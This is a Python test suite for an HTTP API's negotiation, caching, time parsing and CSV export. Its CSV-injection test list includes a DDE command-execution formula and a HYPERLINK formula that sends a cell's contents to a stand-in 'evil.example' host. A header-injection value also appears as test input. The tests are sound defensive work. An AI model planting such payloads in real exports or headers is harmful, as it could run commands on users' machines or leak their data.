"""The parts of the HTTP room that need no server: negotiation, documents, values, parameters, event lines."""

import csv
import gzip
import io
import json
import re
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta, timezone

import orjson
import pytest
from aiohttp import web
from aiohttp.test_utils import make_mocked_request
from hypothesis import given
from hypothesis import strategies as st

from ibconnect.events.codec import encode_message, fields_of
from ibconnect.events.lines import line
from ibconnect.events.selection import Stored
from ibconnect.http.openapi.document import problem_types
from ibconnect.http.resources.accounts.remarks import REMARKS
from ibconnect.http.resources.accounts.values import Shape, TextKey, quoted, values
from ibconnect.http.resources.registry import POSTS, ROUTES
from ibconnect.http.resources.series import Page, Series, as_csv, as_json
from ibconnect.http.server.csv import text_cell
from ibconnect.http.server.moments import parse, parse_length, parse_time, parse_zone
from ibconnect.http.server.negotiation import best_encoding, best_media, max_age, prefers_fresh
from ibconnect.http.server.parameters import (
    format_cursor,
    parse_cursor,
)
from ibconnect.http.server.response_cache import CachedResponse, ResponseCache
from ibconnect.http.server.responses import head_of
from ibconnect.projections.accounts.remarks import Code as RemarkCode
from ibconnect.tags import LEDGER_TAGS, SEGMENT_TAGS
from ibconnect.times import format_rfc3339
from tests.paths import ROOT

JSON, CSV = "application/json", "text/csv"


@pytest.mark.parametrize(
    ("header", "encoding"),
    [
        ("", "identity"),
        ("gzip", "gzip"),
        ("gzip, br", "br"),
        ("gzip, zstd;q=0.9", "gzip"),
        ("GZIP;Q=1", "gzip"),
        ("br;q=0, *", "zstd"),
        ("*;q=0", "identity"),
        ("identity, gzip;q=0.5", "identity"),
        ("br;q=nan", "identity"),
        ("br;q=2", "identity"),
        ("deflate", "identity"),
        (",;, ;q=1,", "identity"),
    ],
)
def test_content_coding(header: str, encoding: str) -> None:
    assert best_encoding(header) == encoding


@pytest.mark.parametrize(
    ("header", "media"),
    [
        (JSON, JSON),
        (CSV, CSV),
        ("text/csv;q=0.5, application/json;q=0.4", CSV),
        ("text/csv; header=present", CSV),
        ("*/*;q=0.1, text/csv;q=0", JSON),
        ("application/*", JSON),
        ("image/png", None),
        ("*/*;q=0", None),
        (",", JSON),
    ],
)
def test_media_type(header: str, media: str | None) -> None:
    assert best_media(header, (JSON, CSV)) == media


@given(st.text())
def test_negotiation_survives_any_header(header: str) -> None:
    assert best_encoding(header) in ("br", "zstd", "gzip", "identity")
    assert best_media(header, (JSON, CSV)) in (JSON, CSV, None)
    assert (age := max_age(header)) is None or age >= 0
    assert prefers_fresh(header) in (True, False)


@pytest.mark.parametrize(
    ("header", "age"),
    [
        ("max-age=0", 0),
        ("no-cache", 0),
        ("no-store, Max-Age=0", 0),
        ("max-age=00", 0),
        ("max-age=60", 60),
        ('max-age="60"', 60),
        ("max-age=60, no-cache", 0),
        ("max-age=60, max-age=30", 30),
        ("max-age=0x", None),
        ("max-age=-1", None),
        ("max-age", None),
        ("max-age=99999999999999999999", 2**31),
        ("max-age=60, max-stale=30", 90),
        ("max-stale=30, max-age=60, max-age=0", 30),
        ("max-age=0, max-stale", None),
        ("max-stale=30", None),
        ("max-stale", None),
        ("max-age=60, max-stale=soon", 60),
        ("no-cache, max-stale=30", 0),
        ("only-if-cached", None),
        ("only-if-cached, max-age=0", None),
        ("No-Cache, Only-If-Cached", None),
        ("", None),
        ("no-store", None),
    ],
)
def test_how_old_figures_may_be(header: str, age: int | None) -> None:
    assert max_age(header) == age


@pytest.mark.parametrize(
    ("header", "wants"),
    [("respond-async", True), ("wait=10, Respond-Async", True), ("respond-async; foo", True), ("wait=10", False)],
)
def test_who_wants_fresh_figures_or_none(header: str, wants: bool) -> None:
    assert prefers_fresh(header) is wants


@pytest.mark.parametrize("value", ["a\r\nSet-Cookie: b", "a\nb", "a\rb", "a\0", "a\n"])
def test_no_header_begins_another_one(value: str) -> None:
    assert head_of({"Link": "\udcff\x85", "ETag": '"b"'}) == b'HTTP/1.1 200 OK\r\nLink: \xff\xc2\x85\r\nETag: "b"\r\n'
    with pytest.raises(ValueError, match="line break"):
        CachedResponse(b"body", JSON, "private", {"Link": value})


def test_the_least_used_document_goes_first() -> None:
    cache = ResponseCache(7000)
    documents = {name: CachedResponse(name.encode() * 900, JSON, "private") for name in "abc"}
    cache.put("a", documents["a"])
    cache.put("b", documents["b"])
    assert cache.get("a") is documents["a"]
    cache.put("c", documents["c"])
    assert (cache.get("a"), cache.get("b"), cache.get("c")) == (documents["a"], None, documents["c"])
    assert cache.size == documents["a"].size + documents["c"].size
    cache.put("d", CachedResponse(b"d" * 9000, JSON, "private"))
    assert cache.size == 0
    assert cache.get("d") is None


def test_a_document_that_grew_is_counted_again() -> None:
    cache, document = ResponseCache(100_000), CachedResponse(b"x" * 5000, JSON, "private")
    cache.put("x", document)
    before = cache.size
    response = document.response(make_mocked_request("HEAD", "/", {"Accept-Encoding": "gzip"}))
    assert isinstance(response, web.Response)
    assert isinstance(response.body, bytes)
    assert gzip.decompress(response.body) == b"x" * 5000
    cache.put("x", document)
    assert cache.size == document.size > before


def test_a_snapshot_without_values_has_an_empty_list() -> None:
    assert values(Shape((), (), None, ()), [], []) == "[]"


@given(
    st.lists(st.sampled_from(["", "C", "P", "S"]), unique=True),
    st.lists(st.sampled_from(["BASE", "CHF", "EUR", "USD"]), unique=True),
    st.lists(st.tuples(st.text(max_size=5), st.sampled_from([None, "S"]), st.sampled_from([None, "USD"]), st.text())),
    st.data(),
)
def test_every_value_is_listed_once_and_in_order(
    segments: list[str],
    currencies: list[str],
    texts: list[tuple[str, str | None, str | None, str]],
    data: st.DataObject,
) -> None:
    number = st.sampled_from(["", "0", "-0.50", "7421167.7441"])
    count = len(segments) * len(SEGMENT_TAGS) + len(currencies) * len(LEDGER_TAGS)
    figures = data.draw(st.lists(number, min_size=count, max_size=count))
    shape = Shape(tuple(segments), tuple(currencies), "USD", tuple(TextKey(*text[:3]) for text in texts))
    rows = orjson.loads(values(shape, figures, [quoted(text[3]) for text in texts]))
    sent = [(tag, segment or None, "USD") for segment in segments for tag in SEGMENT_TAGS]
    sent += [(tag, None, currency) for currency in currencies for tag in LEDGER_TAGS]
    wanted = [(*key, figure) for key, figure in zip(sent, figures, strict=True) if figure] + texts
    found = [(row["Tag"], row["Segment"], row["Currency"], row["Value"]) for row in rows]
    assert sorted(found, key=repr) == sorted(wanted, key=repr)
    ranks = [(tag, segment or "", currency or "", currency != "BASE") for tag, segment, currency, _ in found]
    ordered = [(tag, segment, "" if currency == "BASE" else currency) for tag, segment, currency, _ in ranks]
    assert ordered == sorted(ordered)


@given(
    st.datetimes(datetime(1, 1, 2), datetime(9999, 12, 30)),  # noqa: DTZ001 - the strategy wants naive bounds
    st.integers(-23 * 60 - 59, 23 * 60 + 59),
    st.integers(0, 3),
    st.booleans(),
)
def test_any_spelling_of_a_time_is_the_same(moment: datetime, offset: int, zeros: int, is_lower: bool) -> None:
    instant = moment.replace(tzinfo=UTC)
    local = instant.astimezone(timezone(timedelta(minutes=offset)))
    sign, minutes = "-" if offset < 0 else "+", abs(offset)
    clock = f"{local.strftime('%Y').zfill(4)}{local:-%m-%dT%H:%M:%S.%f}{'0' * zeros}"
    text = f"{clock}{sign}{minutes // 60:02}:{minutes % 60:02}"
    text = text.lower() if is_lower else text
    assert parse_time(text) == instant
    assert parse_time(text.replace("+", " ")) == instant
    assert parse_time(format_rfc3339(instant)) == instant
    assert parse_cursor(format_cursor(instant)) == instant


@given(st.text())
def test_what_is_no_time_is_refused_with_a_reason(text: str) -> None:
    for each in (parse_time, parse, parse_cursor, parse_length, parse_zone):
        try:
            each(text)
        except ValueError as exc:
            assert repr(text) in str(exc)


@given(st.from_regex(r"[A-Za-z0-9_-]{11}", fullmatch=True))
def test_any_cursor_of_the_right_form_is_a_time(text: str) -> None:
    assert parse_cursor(text).tzinfo is not None


_FIELDS = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=8)


@given(st.lists(_FIELDS, min_size=1, max_size=8), st.none() | st.integers(0, 2**52))
def test_a_line_holds_the_fields_of_any_message(fields: list[str], micros: int | None) -> None:
    topic, state = encode_message("".join(f"{field}\0" for field in fields).encode(), micros)
    event = orjson.loads(line(Stored(7, bytes(16), 3, topic, 0, state), b"session", b"time"))
    assert event["Message"] == fields_of(topic, state) == fields
    assert list(event) == ["Position", "Session", "Version", "Timestamp", "Type", "Message"]


def test_problem_codes_are_what_they_always_were() -> None:
    assert {each.code: each.status for each in problem_types((*ROUTES, *POSTS))} == {
        "bad-request": 400,
        "bad-host": 400,
        "invalid-parameter": 400,
        "unknown-parameter": 400,
        "unknown-tag": 400,
        "unknown-segment": 400,
        "unknown-currency": 400,
        "token-missing": 401,
        "token-refused": 401,
        "session-ended": 401,
        "origin-refused": 403,
        "right-missing": 403,
        "unknown-path": 404,
        "unknown-file": 404,
        "unknown-account": 404,
        "unknown-contract": 404,
        "unknown-group": 404,
        "unknown-gateway": 404,
        "unknown-snapshot": 404,
        "unknown-position": 404,
        "unknown-sources": 404,
        "unknown-statement": 404,
        "method-not-allowed": 405,
        "no-tokens": 409,
        "not-acceptable": 406,
        "body-too-slow": 408,
        "body-too-large": 413,
        "unsupported-media": 415,
        "statement-refused": 422,
        "head-too-large": 431,
        "misdirected": 421,
        "too-many-tries": 429,
        "too-many-of-token": 429,
        "internal": 500,
        "no-gateway": 503,
        "database-unavailable": 503,
        "not-ready": 503,
        "rebuilding": 503,
        "too-many-streams": 503,
        "too-many-scans": 503,
        "refresh-timeout": 504,
        "query-timeout": 504,
    }


@given(
    st.lists(st.tuples(st.sampled_from(["", "0", "-0.50", "7421167.7441"]), st.none() | st.text()), max_size=5),
    st.integers(1, 3),
)
async def test_a_series_has_every_cell_in_its_place(points: list[tuple[str, str | None]], page: int) -> None:
    """Figures to the letter, texts whatever they hold, gaps; over pages, the last of which may be empty."""
    numbers = [number for number, _ in points]
    texts = [text for _, text in points]
    cells = ["" if text is None else orjson.dumps(text).decode() for text in texts]
    times = [f"2025-01-01T00:00:0{place}Z" for place in range(len(points))]

    async def pages() -> AsyncIterator[Page]:
        for begin in range(0, len(points) + 1, page):
            part = slice(begin, begin + page)
            yield [times[part], numbers[part], cells[part]]

    series = Series({"AccountCode": "DU1"}, ("Number", '100%"s'), frozenset({'100%"s'}))
    body = b"".join([chunk async for chunk in as_json(series, pages())])
    found = [
        (point["Timestamp"], point["Number"], point['100%"s']) for point in json.loads(body, parse_float=str)["Points"]
    ]
    wanted = [(at, number or None, text) for at, number, text in zip(times, numbers, texts, strict=True)]
    assert [(at, None if number is None else str(number)) for at, number, _ in found] == [row[:2] for row in wanted]
    assert [text if text is None else str(text) for *_, text in found] == texts
    table = b"".join([chunk async for chunk in as_csv(series, pages())]).decode()
    rows = list(csv.reader(io.StringIO(table, newline="")))[1:]
    assert [[*row[:2], without_guard(row[2])] for row in rows] == [
        [at, no or "", text or ""] for at, no, text in wanted
    ]


def read_back(text: str) -> str:
    """The one cell of a table."""
    ((cell,),) = csv.reader(io.StringIO(text, newline=""))
    return cell


def without_guard(cell: str) -> str:
    """What was sent, of a cell: without the apostrophe that a guard has put before it."""
    rest = cell[1:]
    return rest if rest and read_back(text_cell(rest)) == cell else cell


RUN = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    "\rx",
    "\nx",
    " =1",
    "\x00=1",
    "\ufeff=1",
    '"=1',
)
RUN += (
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    "\uff1d1+1",
    "\u22121+1",
)
RUN += (
    "=DDE(1)",
    "--1",
    "-",
    "=",
    "+",
    "@",
    "-1,5",
    "-x",
    "-1 000",
    "'=1",
    "''@x",
    "\u200b=1",
    "\u00a0=1",
    "-0.50x",
    "-1E",
    "0\n"[1:],
)


@pytest.mark.parametrize("text", RUN)
def test_a_text_that_a_spreadsheet_would_run_is_guarded(text: str) -> None:
    """OWASP, "CSV Injection". Read back as RFC 4180 has it, the cell begins with an apostrophe and is else the same."""
    cell = read_back(text_cell(text))
    assert cell == f"'{text}"
    assert without_guard(cell) == text


@pytest.mark.parametrize(
    "text", ["-0.50", "-0.00", "+1", "-1E5", "-007", "0", "", "a=b", "USD", "'", "'quoted'", "1-1", "5@x"]
)
def test_figures_and_harmless_texts_stay_as_they_are(text: str) -> None:
    assert text_cell(text) == text


@given(st.text(), st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "'=", " ", '"', "\uff1d"]))
def test_no_cell_begins_a_formula_and_each_can_be_read_back(text: str, first: str) -> None:
    sent = (first + text).replace("\x00", "")
    cell = read_back(text_cell(sent)) if sent else ""
    is_number = re.fullmatch(r"[+-]?\d+\.?\d*([Ee][+-]?\d+)?", cell, re.ASCII)
    assert is_number or cell.strip().strip('"')[:1] not in ("=", "+", "-", "@")
    assert cell[:1] not in ("\t", "\r", "\n")
    assert without_guard(cell) == sent


def test_remarks_of_the_api_are_those_that_the_tables_hold() -> None:
    assert set(REMARKS) == {code.value for code in RemarkCode}
    assert all(text.startswith(f"{code}: ") for code, text in REMARKS.items())
    page = (ROOT / "docs" / "http-api.md").read_text(encoding="utf-8")
    assert [code for code in REMARKS if f"| `{code}` |" not in page] == []
